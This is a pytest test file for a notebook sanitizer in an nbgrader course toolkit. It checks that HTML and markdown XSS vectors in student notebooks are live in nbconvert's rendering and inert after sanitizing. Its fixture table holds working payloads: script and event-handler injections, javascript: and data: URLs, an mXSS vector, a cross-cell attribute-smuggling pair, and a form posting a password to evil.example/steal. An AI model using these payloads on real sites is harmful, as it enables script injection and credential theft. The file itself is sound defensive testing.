"""dnnkit.sanitize: every way a student's notebook can carry active content, before (live in nbconvert's
rendering, the one formgrader and the feedback use) and after (gone or inert); ordinary content unchanged.

The oracle `active()` parses the HTML nbconvert renders as a browser does (html5lib) and looks for elements
that run or load things, event handlers and script/data URLs.
"""
from __future__ import annotations

import base64
import copy
import re

import nbformat
import pytest
from bleach import html5lib_shim
from bs4 import BeautifulSoup
from nbconvert.exporters import HTMLExporter
from nbconvert.filters.markdown_mistune import IPythonRenderer, MarkdownWithMath
from traitlets.config import Config

from conftest import REPO
from dnnkit.gradebook import course_config
from dnnkit.sanitize import SanitizeStudentMarkup, sanitize_notebook

PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\0\0\0\rIHDR" + b"\0" * 17).decode()
SVG_SCRIPT = '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>alert(2)</script></svg>'
ACTIVE_TAGS = {"script", "iframe", "frame", "object", "embed", "applet", "form", "button", "svg", "math", "style",
               "link", "meta", "base", "template", "textarea", "select"}
URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "background", "poster", "srcset"}
RASTER = re.compile(r"data:image/(png|jpeg|gif|webp);base64,", re.I)


def _elements(html: str):
    """(tag, {attribute: value}) of every element of `html`, parsed as browsers do (html5lib implements the
    WHATWG parsing algorithm; bleach ships it)."""
    parser = html5lib_shim.BleachHTMLParser(tags=None, strip=False, consume_entities=True,
                                            namespaceHTMLElements=False)
    for element in parser.parseFragment(html).iter():
        if isinstance(element.tag, str) and element.tag != "DOCUMENT_FRAGMENT":
            yield (element.tag.rsplit("}", 1)[-1].lower(),
                   {str(k).rsplit("}", 1)[-1].lower(): v for k, v in element.attrib.items()})


def active(html: str) -> set[str]:
    """What in `html` could run or load something: '<tag>', 'onX=', 'javascript:', 'data:', 'srcdoc'."""
    found = set()
    for tag, attributes in _elements(html):
        if tag in ACTIVE_TAGS:
            found.add(f"<{tag}>")
        if tag == "input" and (attributes.get("type") or "").lower() != "checkbox":
            found.add("<input>")
        for name, value in attributes.items():
            url = re.sub(r"[\s\x00-\x20]+", "", html5lib_shim.convert_entities(value)).lower()
            if name.startswith("on"):
                found.add(f"{name}=")
            elif name == "srcdoc":
                found.add("srcdoc")
            elif name in URL_ATTRS and re.match(r"(java|vb)script:", url):
                found.add("javascript:")
            elif name in URL_ATTRS and url.startswith("data:") and not (
                    tag == "img" and name == "src" and RASTER.match(url)):
                found.add("data:")
    return found


def render(markdown: str, attachments: dict | None = None) -> str:
    """Markdown as nbconvert's HTMLExporter renders it (raw HTML passed through, attachments embedded)."""
    renderer = IPythonRenderer(escape=False, attachments=attachments or {})
    return MarkdownWithMath(renderer=renderer).render(markdown)


def notebook(*cells) -> nbformat.NotebookNode:
    nb = nbformat.v4.new_notebook()
    nb.cells = list(cells)
    return nb


def display(data: dict, output_type: str = "display_data") -> nbformat.NotebookNode:
    return nbformat.v4.new_output(output_type, data=data, **({"execution_count": 1}
                                                              if output_type == "execute_result" else {}))


# ----------------------------------------------------------------------------------------- markdown cells

MARKDOWN_VECTORS = {
    # name: (markdown, what it is in nbconvert's rendering, what the report line says)
    "img onerror": ('Look: <img src="x" onerror="alert(1)">', "onerror=", "removed onerror= from <img>"),
    "script": ("<script>alert(document.cookie)</script>", "<script>", "removed <script>"),
    "svg onload": ('<svg onload="alert(1)"><circle r="3"/></svg>', "<svg>", "removed <svg> with onload="),
    "markdown javascript link": ("[click me](javascript:alert(1))", "javascript:",
                                 "removed javascript: URL from <a href>"),
    "markdown javascript link, reference style": ("[click][r]\n\n[r]: javascript:alert(1)", "javascript:",
                                                  "removed javascript: URL from <a href>"),
    "markdown javascript autolink": ("<javascript:alert(1)>", "javascript:",
                                     "removed javascript: URL from <a href>"),
    "raw a href javascript": ('<a href="javascript:alert(1)">x</a>', "javascript:",
                              "removed javascript: URL from <a href>"),
    "entity-encoded javascript": ('<a href="&#106;avascript&#58;alert(1)">x</a>', "javascript:",
                                  "removed javascript: URL from <a href>"),
    "iframe srcdoc": ('<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>", "removed <iframe>"),
    "iframe javascript": ('<iframe src="javascript:alert(1)"></iframe>', "<iframe>", "removed <iframe>"),
    "form": ('<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>', "<form>",
             "removed <form>"),
    "object": ('<object data="javascript:alert(1)"></object>', "<object>", "removed <object>"),
    "embed": ('<embed src="data:text/html,<script>alert(1)</script>">', "<embed>", "removed <embed>"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example">', "<meta>",
                     "removed <meta>"),
    "base": ('<base href="https://evil.example/">', "<base>", "removed <base>"),
    "link stylesheet": ('<link rel="stylesheet" href="https://evil.example/x.css">', "<link>", "removed <link>"),
    "style": ("<style>body { background: url(https://evil.example/track) }</style>", "<style>",
              "removed <style>"),
    "data URL page": ('<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "data:",
                      "removed data:text/html URL from <a href>"),
    "svg data image": ("![x](data:image/svg+xml;base64," + base64.b64encode(SVG_SCRIPT.encode()).decode() + ")",
                       "data:", "removed data:image/svg+xml URL from <img src>"),
    "details ontoggle": ('<details open ontoggle="alert(1)"><summary>s</summary></details>', "ontoggle=",
                         "removed ontoggle= from <details>"),
    "input autofocus onfocus": ('<input autofocus onfocus="alert(1)">', "onfocus=", "removed <input> with onfocus="),
    "mxss math/style": ('<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', "<math>",
                        "removed <math>"),
}


@pytest.mark.parametrize("name", MARKDOWN_VECTORS)
def test_markdown_vector_is_live_before_and_gone_after(name):
    source, kind, phrase = MARKDOWN_VECTORS[name]
    assert kind in active(render(source)), f"the test vector is not active to begin with: {render(source)!r}"

    nb = notebook(nbformat.v4.new_markdown_cell("# Intro"), nbformat.v4.new_markdown_cell(source))
    lines = sanitize_notebook(nb)

    after = nb.cells[1].source
    assert active(render(after)) == set(), f"{name}: still active after sanitizing: {after!r}"
    assert f"markdown cell 2: {phrase}" in lines, lines
    assert all(line.startswith("markdown cell 2: ") for line in lines), lines
    assert nb.cells[0].source == "# Intro"
    # what was removed is said in the cell too, so whoever opens it sees why it looks different
    assert "[dnnkit: " in after and "</div>" in after and "\n" not in after


def test_everything_is_inert_in_nbconverts_own_templates_too():
    """The whole page nbconvert makes (classic template, as formgrader and the feedback use) has none of the
    vectors once the notebook went through the sanitizer, and has each of them without it."""
    cells = [nbformat.v4.new_markdown_cell(source) for source, _kind, _phrase in MARKDOWN_VECTORS.values()]
    exporter = HTMLExporter(template_name="classic")
    before = active(exporter.from_notebook_node(notebook(*copy.deepcopy(cells)))[0])
    assert {kind for _source, kind, _phrase in MARKDOWN_VECTORS.values()} <= before
    nb = notebook(*cells)
    sanitize_notebook(nb)
    page = exporter.from_notebook_node(nb)[0]
    # the template's own <script> tags (MathJax, require.js, ...) are in <head>; student content is in <body>
    body = BeautifulSoup(page, "html.parser").find("div", id="notebook-container")
    assert active(str(body)) == set()


# ----------------------------------------------------------------------------------- what must survive

ORDINARY = [
    "# Heading\n\nSome *emphasis*, **bold**, ~~struck~~ and `code <with> brackets & ampersands`.",
    "Inline math $a < b$ and $\\sigma(z) = \\frac{1}{1 + e^{-z}}$, display math\n\n$$\\sum_{i=1}^m x_i$$",
    "\\begin{equation}\nJ = -\\frac{1}{m} \\sum_i y_i \\log a_i\n\\end{equation}",
    "A [plain link](https://en.wikipedia.org/wiki/Backpropagation), <https://example.org>, "
    "[mail](mailto:t@example.org) and [an anchor](#Heading).",
    "- one\n- two\n  1. nested\n\n> quoted\n\n---",
    "| a | b |\n|:--|--:|\n| 1 | 2 |",
    "- [x] done\n- [ ] to do",
    "```python\ndef f(x):\n    return x < 2 and x > 0\n```",
    "![a cat](images/cat.png) and ![inline](data:image/png;base64," + PNG + ")",
    "x < y and y > z, 3 & 4, a <= b",
]


@pytest.mark.parametrize("source", ORDINARY)
def test_ordinary_markdown_is_kept_exactly(source):
    nb = notebook(nbformat.v4.new_markdown_cell(source))
    assert sanitize_notebook(nb) == []
    assert nb.cells[0].source == source


def test_png_attachment_and_its_image_survive():
    cell = nbformat.v4.new_markdown_cell("My plot: ![plot](attachment:plot.png)")
    cell.attachments = {"plot.png": {"image/png": PNG}}
    nb = notebook(cell)
    assert sanitize_notebook(nb) == []
    assert nb.cells[0].attachments == {"plot.png": {"image/png": PNG}}
    html = render(nb.cells[0].source, nb.cells[0].attachments)
    assert f'src="data:image/png;base64,{PNG}"' in html and active(html) == set()


def test_harmless_raw_html_is_kept_as_its_sanitized_rendering_without_a_flag():
    nb = notebook(nbformat.v4.new_markdown_cell("Some <b>bold</b> text<br>and *markdown*"))
    assert sanitize_notebook(nb) == []
    assert nb.cells[0].source == "<div><p>Some <b>bold</b> text<br>and <em>markdown</em></p></div>"


def test_markup_cannot_reach_into_the_next_cell():
    """An unterminated attribute in one cell would swallow the page up to a quote in the next cell (each cell
    alone looks harmless); a cell with raw HTML is replaced by its balanced, sanitized rendering."""
    opener = "<div title='\nnothing to see"
    closer = "<a title=\"' onmouseover=alert(1) x='\">hover me</a>"
    page = "<div>{}</div><div>{}</div><p class='next'>next cell</p>"       # as nbconvert's page has them
    assert "onmouseover=" in active(page.format(render(opener), render(closer)))
    assert active(render(opener)) == active(render(closer)) == set()       # each alone is harmless
    nb = notebook(nbformat.v4.new_markdown_cell(opener), nbformat.v4.new_markdown_cell(closer))
    sanitize_notebook(nb)
    assert active(page.format(render(nb.cells[0].source), render(nb.cells[1].source))) == set()


def test_sanitizing_twice_changes_nothing_more():
    cells = [nbformat.v4.new_markdown_cell(source) for source, _k, _p in MARKDOWN_VECTORS.values()]
    cells += [nbformat.v4.new_markdown_cell(source) for source in ORDINARY]
    nb = notebook(*cells, _code_cell_with_every_output())
    assert sanitize_notebook(nb)
    once = copy.deepcopy(nb)
    assert sanitize_notebook(nb) == []
    assert nb == once


# ------------------------------------------------------------------------------------------- attachments


def test_svg_attachment_is_removed_and_the_reference_to_it_too():
    cell = nbformat.v4.new_markdown_cell("![evil](attachment:evil.svg) and ![ok](attachment:ok.png)")
    cell.attachments = {"evil.svg": {"image/svg+xml": base64.b64encode(SVG_SCRIPT.encode()).decode()},
                        "ok.png": {"image/png": PNG}}
    assert "data:" in active(render(cell.source, cell.attachments))
    nb = notebook(cell)
    lines = sanitize_notebook(nb)
    assert "markdown cell 1: removed attachment 'evil.svg' (image/svg+xml)" in lines
    assert "markdown cell 1: removed the URL of a missing attachment from <img src>" in lines
    assert nb.cells[0].attachments == {"ok.png": {"image/png": PNG}}
    assert "attachment:evil.svg" not in nb.cells[0].source
    # nbconvert fails a whole export on a missing attachment: the page must still render
    page = HTMLExporter(template_name="classic").from_notebook_node(nb)[0]
    assert PNG in page and "image/svg+xml" not in page


def test_attachment_whose_bytes_are_not_its_image_type_is_removed():
    cell = nbformat.v4.new_markdown_cell("![x](attachment:x.png)")
    cell.attachments = {"x.png": {"image/png": base64.b64encode(b"<script>alert(1)</script>").decode()},
                        "y.html": {"text/html": base64.b64encode(b"<script>alert(1)</script>").decode()}}
    nb = notebook(cell)
    lines = sanitize_notebook(nb)
    assert "markdown cell 1: removed attachment 'x.png' (image/png)" in lines
    assert "markdown cell 1: removed attachment 'y.html' (text/html)" in lines
    assert "attachments" not in nb.cells[0]
    HTMLExporter(template_name="classic").from_notebook_node(nb)   # renders without the attachment


# ----------------------------------------------------------------------------------------------- outputs


def _code_cell_with_every_output() -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell("show()")
    cell.outputs = [
        nbformat.v4.new_output("stream", name="stdout", text="cost after iteration 0: 0.693 <b>\n"),
        display({"text/html": '<p>Result</p><img src="x" onerror="alert(1)"><script>alert(2)</script>',
                 "text/plain": "<HTML>"}),
        display({"application/javascript": "alert(1)", "text/plain": "<Javascript>"}),
        display({"image/svg+xml": SVG_SCRIPT}),
        display({"text/markdown": "[x](javascript:alert(1)) <img src=y onerror=alert(2)>",
                 "text/plain": "<Markdown>"}),
        display({"application/vnd.jupyter.widget-view+json": {"model_id": "abc", "version_major": 2},
                 "text/plain": "IntSlider()"}),
        display({"text/latex": "$\\alpha^2$", "text/plain": "alpha"}),
        display({"image/png": PNG, "text/plain": "<Figure>"}),
        display({"image/png": base64.b64encode(b"<html><script>alert(1)</script>").decode()}),
        display({"text/html": "<table><tr><td>1</td></tr></table>", "text/plain": "df"}, "execute_result"),
        nbformat.v4.new_output("error", ename="ValueError", evalue="<script>", traceback=["<script>x"]),
    ]
    return cell


def test_outputs_are_sanitized_and_safe_ones_kept():
    nb = notebook(nbformat.v4.new_markdown_cell("# t"), _code_cell_with_every_output())
    before = copy.deepcopy(nb.cells[1].outputs)
    assert "onerror=" in active(before[1].data["text/html"])
    assert "javascript:" in active(render(before[4].data["text/markdown"]))
    assert "<svg>" in active(before[3].data["image/svg+xml"])

    lines = sanitize_notebook(nb)
    outputs = nb.cells[1].outputs
    assert lines == [
        "code cell 2, output 2 (text/html): removed onerror= from <img>",
        "code cell 2, output 2 (text/html): removed <script>",
        "code cell 2, output 3: removed application/javascript",
        "code cell 2, output 4: removed image/svg+xml",
        "code cell 2, output 5 (text/markdown): removed javascript: URL from <a href>",
        "code cell 2, output 5 (text/markdown): removed onerror= from <img>",
        "code cell 2, output 6: removed application/vnd.jupyter.widget-view+json",
        "code cell 2, output 9: removed image/png (not an image)",
    ]
    for output in outputs:
        for media, value in output.get("data", {}).items():
            html = render(value) if media == "text/markdown" else str(value)
            assert active(html) == set(), (media, value)
    assert outputs[0] == before[0] and outputs[10] == before[10]          # text stays text
    assert outputs[1].data["text/plain"] == "<HTML>" and "<p>Result</p>" in outputs[1].data["text/html"]
    assert set(outputs[2].data) == {"text/plain"}
    assert outputs[3].data == {"text/plain": "[output removed by dnnkit: image/svg+xml]"}
    assert outputs[6] == before[6] and outputs[7] == before[7]            # LaTeX and a real PNG
    assert outputs[9].data["text/html"] == "<table><tbody><tr><td>1</td></tr></tbody></table>"


def test_widget_state_is_removed_from_the_notebook_metadata():
    nb = notebook(nbformat.v4.new_markdown_cell("x"))
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {}}}
    nb.metadata["kernelspec"] = {"name": "python3", "display_name": "Python 3"}
    assert sanitize_notebook(nb) == ["notebook metadata: removed the widget state"]
    assert "widgets" not in nb.metadata and nb.metadata["kernelspec"]["name"] == "python3"


def test_raw_cells_lose_markup_only_when_it_is_active():
    plain = nbformat.v4.new_raw_cell("a < b, x > 0 & done")
    hostile = nbformat.v4.new_raw_cell('<img src=x onerror="alert(1)">', metadata={"raw_mimetype": "text/html"})
    nb = notebook(plain, hostile)
    assert sanitize_notebook(nb) == ["raw cell 2: removed onerror= from <img>"]
    assert nb.cells[0].source == "a < b, x > 0 & done" and active(nb.cells[1].source) == set()


def test_report_lines_never_carry_the_students_raw_text():
    nb = notebook(nbformat.v4.new_markdown_cell('<x\u202eevil onclick="alert(1)">t</x\u202eevil> '
                                               '<a href="java\u202escript:alert(1)">l</a>'))
    lines = sanitize_notebook(nb)
    assert lines and all(re.fullmatch(r"[ -~]+", line) for line in lines), lines
    assert active(render(nb.cells[0].source)) == set()


# ------------------------------------------------------------------------------------ nbgrader wiring


def test_the_course_config_puts_the_sanitizer_everywhere_nbgrader_renders_or_writes():
    config = course_config(REPO)
    name = "dnnkit.sanitize.SanitizeStudentMarkup"
    for trait in ("sanitize_preprocessors", "autograde_preprocessors"):
        pipeline = [p if isinstance(p, str) else f"{p.__module__}.{p.__name__}" for p in config.Autograde[trait]]
        assert pipeline[-1] == name, (trait, pipeline)             # last: after Execute wrote the outputs
    assert "nbgrader.preprocessors.execute.Execute" in [
        f"{p.__module__}.{p.__name__}" for p in config.Autograde.autograde_preprocessors if not isinstance(p, str)]
    assert config.GenerateFeedback.preprocessors[0] == name
    assert "nbgrader.preprocessors.ClearHiddenTests" in config.GenerateFeedback.preprocessors
    assert config.HTMLExporter.preprocessors == [name]      # formgrader's exporter (and the feedback's)
    assert config.HTMLExporter.sanitize_html is True
    assert config.HTMLExporter.exclude_anchor_links is True


def _formgrader_exporter(config: Config) -> tuple[HTMLExporter, dict]:
    """The exporter nbgrader's formgrader builds (server_extensions/formgrader), with the course's config."""
    from nbgrader.server_extensions.formgrader import handlers
    config = copy.deepcopy(config)
    config.HTMLExporter.template_name = "formgrade"
    config.HTMLExporter.extra_template_basedirs = [handlers.template_path]
    resources = {"assignment_id": "a", "notebook_id": "n", "submission_id": "1", "index": 0, "total": 1,
                 "base_url": "", "student": "s", "last_name": None, "first_name": None, "notebook_path": "n.ipynb"}
    return HTMLExporter(config=config), resources


def test_formgrader_renders_an_unsanitized_notebook_inert_with_the_course_config():
    """An autograded notebook that never went through the sanitizer (graded before this change, or by hand)
    is still rendered inert by formgrader, whose HTMLExporter runs the preprocessor from nbgrader_config.py."""
    cells = [nbformat.v4.new_markdown_cell(source) for source, _k, _p in MARKDOWN_VECTORS.values()]
    nb = notebook(*cells, _code_cell_with_every_output())

    def student_part(page: str) -> set[str]:
        return active(str(BeautifulSoup(page, "html.parser").find("div", id="notebook-container")))

    bare, resources = _formgrader_exporter(Config())
    assert {"onerror=", "<script>", "javascript:", "<iframe>", "<form>"} <= student_part(
        bare.from_notebook_node(copy.deepcopy(nb), resources=dict(resources))[0])

    kit, resources = _formgrader_exporter(course_config(REPO))
    assert student_part(kit.from_notebook_node(copy.deepcopy(nb), resources=dict(resources))[0]) == set()


def test_a_students_heading_cannot_take_formgraders_element_ids():
    """formgrader finds its score boxes and status line by id (`$("#" + grade_id)`, `#statusmessage`); nbconvert
    gives every heading an id made of its text, unless the course config says no anchors."""
    nb = notebook(nbformat.v4.new_markdown_cell("# statusmessage\n\n## test_answer"))
    bare, resources = _formgrader_exporter(Config())
    assert 'id="statusmessage"' in bare.from_notebook_node(copy.deepcopy(nb), resources=dict(resources))[0]
    kit, resources = _formgrader_exporter(course_config(REPO))
    page = kit.from_notebook_node(nb, resources=dict(resources))[0]
    ids = [e.get("id") for e in BeautifulSoup(page, "html.parser").find_all(id=True)]
    assert ids.count("statusmessage") == 1 and "test_answer" not in ids, ids   # formgrader's own, only


def test_preprocessor_logs_and_returns_what_it_removed():
    nb = notebook(nbformat.v4.new_markdown_cell("<script>alert(1)</script>"))
    nb, resources = SanitizeStudentMarkup()(nb, {})
    assert resources["dnnkit_sanitized"] == ["markdown cell 1: removed <script>"]
    nb = notebook(nbformat.v4.new_markdown_cell("<script>alert(1)</script>"))
    SanitizeStudentMarkup(enabled=False)(nb, {})
    assert nb.cells[0].source == "<script>alert(1)</script>"
